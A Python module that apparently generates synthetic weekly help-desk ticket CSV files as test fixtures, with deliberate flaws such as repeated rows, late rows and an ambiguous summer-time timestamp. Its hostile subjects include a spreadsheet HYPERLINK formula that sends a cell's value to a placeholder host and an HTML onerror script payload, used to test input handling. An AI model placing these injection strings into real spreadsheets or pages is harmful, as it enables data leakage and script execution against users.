"""Tickets as the help desk exports them, week by week.

What belongs here: the ticket files and the bad fortnight after the CRM's update of
2 November 2026. Their dirt: rows repeated in the next week's file, rows that come two
weeks late, a subject that is a spreadsheet formula, one with HTML, one with a comma, and
a time that the end of summer time makes ambiguous.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from random import Random

from scoreline.example.clock import CYCLE_STARTS, PINNED_DAY, days, iso_week, office_time
from scoreline.example.people import Member
from scoreline.example.writing import Export, csv_bytes

_HEADER = "ticket_id,opened_at,requester,team,system,category,channel,first_response_hours,subject"
_UPDATE = date(2026, 11, 2)
_AMBIGUOUS = datetime(2026, 10, 25, 2, 30)
_SUBJECTS = {
    "login": "Cannot log in",
    "how-to": "How do I merge two accounts?",
    "data": "A field shows the wrong value, again",
    "update": "Screen stays empty after update 5.2",
}
_HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "<img src=x onerror=alert(1)>",
    "Report, quarterly: where is it?",
)


@dataclass(frozen=True, slots=True)
class _Ticket:
    opened: datetime
    exported: date
    row: list[str]


def exports(seed: int, people: Sequence[Member]) -> Iterator[Export]:
    """One file an ISO week from July 2026 to the pinned day, each repeating a few rows."""
    chance = Random(f"{seed}:helpdesk")
    tickets = _tickets(chance, people)
    header = _HEADER.split(",")
    before: list[_Ticket] = []
    for week in sorted({iso_week(ticket.exported) for ticket in tickets}):
        fresh = [ticket for ticket in tickets if iso_week(ticket.exported) == week]
        rows = [ticket.row for ticket in [*before[-4:], *fresh]]
        yield Export(f"helpdesk/tickets_{week}.csv", csv_bytes(header, rows))
        before = fresh


def _tickets(chance: Random, people: Sequence[Member]) -> list[_Ticket]:
    tickets: list[_Ticket] = []
    for day in days(CYCLE_STARTS, PINNED_DAY):
        for _ in range(_how_many(chance, day)):
            opened = office_time(chance, day).replace(second=0)
            tickets.append(_ticket(chance, len(tickets), opened, people))
        if day == _AMBIGUOUS.date():
            tickets.append(_ticket(chance, len(tickets), _AMBIGUOUS, people))
    return tickets


def _how_many(chance: Random, day: date) -> int:
    if day.weekday() >= 5:
        return 1 if chance.random() < 0.2 else 0
    if _UPDATE <= day < _UPDATE + timedelta(days=12):
        return chance.randint(14, 20)
    eased = (day - CYCLE_STARTS).days // 28
    return chance.randint(9 - eased, 14 - eased)


def _ticket(chance: Random, number: int, opened: datetime, people: Sequence[Member]) -> _Ticket:
    person = chance.choice([m for m in people if m.hired_on < CYCLE_STARTS])
    after_update = timedelta(0) <= opened.date() - _UPDATE < timedelta(days=12)
    category = "update" if after_update and chance.random() < 0.6 else None
    category = category or chance.choice(("login", "how-to", "data"))
    system = "CRM" if category == "update" or chance.random() < 0.7 else "LMS"
    late = timedelta(days=14) if number % 97 == 50 else timedelta(0)
    subject = _SUBJECTS[category] if number % 150 != 75 else _HOSTILE[number // 150 % 3]
    row = [
        f"T{70001 + number}",
        f"{opened:%d.%m.%Y %H:%M}",
        person.email,
        person.team,
        system,
        category,
        chance.choice(("mail", "chat", "phone", "chat")),
        _hours(chance, opened, after_update),
        subject,
    ]
    return _Ticket(opened, min(opened.date() + late, PINNED_DAY), row)


def _hours(chance: Random, opened: datetime, after_update: bool) -> str:
    slow = after_update or opened.isocalendar().week == 33
    in_time = chance.random() < (0.74 if slow else 0.93)
    quarters = chance.randint(1, 31) if in_time else chance.randint(33, 120)
    return f"{quarters // 4}.{quarters % 4 * 25:02}"
